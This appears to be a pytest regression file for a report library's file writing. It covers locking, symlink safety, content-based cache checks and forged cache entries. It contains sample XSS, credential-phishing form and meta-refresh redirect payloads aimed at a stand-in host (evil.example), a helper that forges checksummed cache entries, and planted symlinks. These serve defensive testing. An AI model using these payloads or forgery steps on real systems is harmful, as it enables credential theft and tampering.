"""How reports and the result cache write files: concurrent runs, temp files, symlinks, up-to-date checks,
and forged cache entries (findings of the security review, one regression test each)."""
from __future__ import annotations

import hashlib
import io
import json
import os
import threading
from html.parser import HTMLParser

import numpy as np
import pytest

import explainkit
from explainkit.errors import ExplainKitError
from explainkit.reports import build as build_mod
from explainkit.reports.cache import MAGIC, Cache


def _run(model, data, out, **kw):
    kw = {"methods": ["saliency"], "limit": 3, "seed": 0, "progress": False, **kw}
    return explainkit.report(model, data, out=out, **kw)


def _sha(path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _assert_published(out) -> None:
    """The HTML is a whole document, with no NUL bytes, and is the file report.json vouches for."""
    raw = out.read_bytes()
    assert raw[:15].lower().startswith((b"<!doctype", b"<html")), raw[:40]
    assert b"\x00" not in raw
    index = json.loads(out.with_suffix(".json").read_text(encoding="utf-8"))
    assert index["sha256"]["html"] == _sha(out)
    assert index["sha256"]["attributions"] == _sha(out.with_suffix(".npz"))
    leftovers = [p.name for p in out.parent.iterdir() if p.name.startswith(f".{out.stem}.") and not p.is_symlink()]
    assert not leftovers, leftovers          # every temp file of ours was renamed or removed


# -- 1 + 2: two runs into the same --out ------------------------------------------------------------------

def test_two_runs_into_the_same_out_take_turns_and_publish_one_intact_report(mnist_cnn, load_data, tmp_path,
                                                                           monkeypatch):
    data = load_data("mnist-cnn").subset(range(20))
    out = tmp_path / "shared.html"
    # Hold each run in the middle of streaming its HTML until the other one is streaming too. Without a
    # lock both meet here and write at the same time; with the lock the second run cannot get here while
    # the first holds it, so the first one's wait simply lapses.
    meet = threading.Barrier(2, timeout=3)
    real = build_mod._sections
    active, peak, temps = [0], [0], []
    guard = threading.Lock()

    def sections(*a, **k):
        with guard:
            active[0] += 1
            peak[0] = max(peak[0], active[0])
        try:
            for i, s in enumerate(real(*a, **k)):
                yield s
                if i == 0:
                    temps.extend(p for p in tmp_path.iterdir() if p.name.startswith(".shared.html."))
                    try:
                        meet.wait()
                    except threading.BrokenBarrierError:
                        pass
        finally:
            with guard:
                active[0] -= 1

    monkeypatch.setattr(build_mod, "_sections", sections)
    results, errors = [], []

    def worker():
        try:
            results.append(_run(mnist_cnn, data, out))
        except BaseException as e:  # noqa: BLE001 - reported below
            errors.append(e)

    threads = [threading.Thread(target=worker) for _ in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors, errors
    assert len(results) == 2
    assert peak[0] == 1, "two runs streamed the same report at once"      # the <out>.lock serialized them
    assert temps and all(not p.is_symlink() and p.name not in (".shared.html.part", ".shared.html.tmp")
                         and p.stat().st_mode & 0o077 == 0 for p in temps if p.exists()), temps
    _assert_published(out)
    page = out.read_text(encoding="utf-8")
    assert page.rstrip().endswith("</html>") and page.count("</html>") == 1
    assert all(r.index["counts"]["samples"] == 3 for r in results)


# -- 3: "up to date" compares contents ------------------------------------------------------------------

def _same_size_and_mtime_edit(path, old: bytes, new: bytes) -> None:
    st = path.stat()
    blob = path.read_bytes()
    assert len(old) == len(new) and old in blob
    path.write_bytes(blob.replace(old, new, 1))
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert path.stat().st_size == st.st_size and path.stat().st_mtime_ns == st.st_mtime_ns


def test_up_to_date_compares_contents_not_size_or_mtime(mnist_cnn, load_data, tmp_path):
    data = load_data("mnist-cnn").subset(range(20))
    out = tmp_path / "r.html"
    first = _run(mnist_cnn, data, out)
    assert _run(mnist_cnn, data, out).index["counts"].get("up_to_date")        # unchanged: reused

    # the HTML edited in place, same size, same mtime: rebuilt, the edit is gone
    _same_size_and_mtime_edit(out, b"</body>", b"</BODY>")
    rebuilt = _run(mnist_cnn, data, out)
    assert not rebuilt.index["counts"].get("up_to_date")
    assert b"</BODY>" not in out.read_bytes()
    _assert_published(out)

    # a cache entry rewritten in place, same size, same mtime: not trusted, re-verified and recomputed
    entry = Cache(first.index["cache_dir"]).path(first.index["keys"]["saliency"][1])
    blob = entry.read_bytes()
    mid = len(blob) // 2
    _same_size_and_mtime_edit(entry, blob[mid:mid + 1], bytes([blob[mid] ^ 0xFF]))
    again = _run(mnist_cnn, data, out)
    assert not again.index["counts"].get("up_to_date")
    assert again.index["counts"]["corrupt_recomputed"] == 1 and again.index["counts"]["computed"] == 1
    _assert_published(out)


# -- 4: planted symlinks are never followed --------------------------------------------------------------

def test_symlinks_planted_at_temp_names_do_not_overwrite_their_targets(mnist_cnn, load_data, tmp_path):
    data = load_data("mnist-cnn").subset(range(20))
    folder = tmp_path / "out"
    folder.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n", encoding="utf-8")
    planted = [".r.html.part", ".r.html.tmp", ".r.json.tmp", ".r.npz.tmp", "r.html"]
    for name in planted:
        os.symlink(victim, folder / name)
    rep = _run(mnist_cnn, data, folder / "r.html")
    assert victim.read_text(encoding="utf-8") == "precious\n"
    assert not (folder / "r.html").is_symlink()          # the report replaced the link, not its target
    assert rep.index["counts"]["samples"] == 3
    _assert_published(folder / "r.html")


def test_a_symlink_at_the_lock_name_is_refused_not_followed(mnist_cnn, load_data, tmp_path):
    data = load_data("mnist-cnn").subset(range(20))
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n", encoding="utf-8")
    os.symlink(victim, tmp_path / "r.html.lock")
    with pytest.raises(ExplainKitError) as err:
        _run(mnist_cnn, data, tmp_path / "r.html")
    assert "r.html.lock" in str(err.value) and "Fix:" in str(err.value)
    assert victim.read_text(encoding="utf-8") == "precious\n"
    assert not (tmp_path / "r.html").exists()


# -- 5: a forged cache entry never reaches the report as markup ------------------------------------------

class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


FORGED_HTML = ('<script>alert("cached")</script><form action="https://evil.example/"><input name="pw"></form>'
               '<meta http-equiv="refresh" content="0;url=https://evil.example/">')


def _members(entry) -> list[str]:
    with np.load(io.BytesIO(entry.read_bytes()[36:]), allow_pickle=False) as z:
        return list(z.files)


def _forge(entry) -> np.ndarray:
    """Rewrite an entry like an attacker would: new metadata, new scores, an HTML member, a valid checksum."""
    blob = entry.read_bytes()
    with np.load(io.BytesIO(blob[36:]), allow_pickle=False) as z:
        arrays = {k: z[k] for k in z.files}
    meta = json.loads(bytes(arrays["__meta__"]).decode())
    meta["method"] = "<script>alert('method')</script>"
    meta["model_name"] = '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
    meta["classes"] = ['<form action="https://evil.example/"><input name="pw">'] * 10
    arrays["__meta__"] = np.frombuffer(json.dumps(meta).encode(), dtype=np.uint8)
    arrays["__html__"] = np.frombuffer(FORGED_HTML.encode(), dtype=np.uint8)
    arrays["scores"] = -arrays["scores"][::-1].copy()
    buf = io.BytesIO()
    np.savez(buf, **arrays)
    payload = buf.getvalue()
    entry.write_bytes(MAGIC + hashlib.sha256(payload).digest() + payload)
    return arrays["scores"]


def test_a_forged_cache_entry_cannot_inject_markup_into_the_report(mnist_cnn, load_data, tmp_path):
    data = load_data("mnist-cnn").subset(range(20))
    out = tmp_path / "r.html"
    first = _run(mnist_cnn, data, out)
    assert "<script" not in out.read_text(encoding="utf-8")
    entries = Cache(first.index["cache_dir"]).entries()
    assert entries and not any("__html__" in _members(e) for e in entries)     # the cache stores data only
    forged_scores = _forge(Cache(first.index["cache_dir"]).path(first.index["keys"]["saliency"][0]))

    rep = _run(mnist_cnn, data, out)
    c = rep.index["counts"]
    # the checksum matches, so the forged numbers are accepted as data (there is no secret to check them
    # against) ... but only as data: the section is re-rendered from them through the escaping templates
    assert not c.get("up_to_date") and (c["cached"], c["computed"], c["corrupt_recomputed"]) == (3, 0, 0)
    np.testing.assert_array_equal(rep.attributions("saliency")[0], forged_scores.astype(np.float32))
    page = out.read_text(encoding="utf-8")
    p = _Tags()
    p.feed(page)
    tags = [t for t, _ in p.tags]
    assert "script" not in tags and "form" not in tags and "input" not in tags
    equiv = [a.get("http-equiv", "").lower() for t, a in p.tags if t == "meta" and "http-equiv" in a]
    assert equiv == ["content-security-policy"]                 # only our own CSP, nothing forged
    assert "evil.example" not in " ".join(str(v) for _, a in p.tags for v in a.values())
    assert all(a["src"].startswith("data:image/png;base64,") for t, a in p.tags if t == "img")
    assert "&lt;script&gt;alert(" in page                      # the forged name is shown, escaped, as text
    assert 'alert("cached")' not in page                        # the cached HTML itself is never used
    _assert_published(out)


def test_a_report_that_fails_while_writing_publishes_nothing(tmp_path, mnist_cnn, load_data, monkeypatch):
    """The npz, HTML and index are published together: a failure in the HTML leaves no orphan npz, and an
    earlier complete report in the same place stays as it was."""
    from explainkit.views import render

    data = load_data("mnist-cnn").subset(range(4))
    out = tmp_path / "r.html"
    explainkit.report(mnist_cnn, data, methods=["saliency"], out=out, progress=False)
    before = {p.name: p.read_bytes() for p in tmp_path.iterdir() if p.is_file()}
    real = render.template

    def broken(name, search=()):
        if name == "report.html":
            raise RuntimeError("disk full while rendering")
        return real(name, search)

    monkeypatch.setattr(render, "template", broken)
    with pytest.raises(RuntimeError, match="disk full"):
        explainkit.report(mnist_cnn, data, methods=["saliency", "gradcam"], out=out, progress=False)
    after = {p.name: p.read_bytes() for p in tmp_path.iterdir() if p.is_file()}
    assert after == before                          # same files, same bytes: no orphan npz, no temp file
    fresh = tmp_path / "fresh"
    fresh.mkdir()
    with pytest.raises(RuntimeError, match="disk full"):
        explainkit.report(mnist_cnn, data, methods=["saliency"], out=fresh / "r.html", progress=False)
    assert {p.name for p in fresh.iterdir() if p.is_file()} <= {"r.html.lock"}   # no npz, html, json or temp
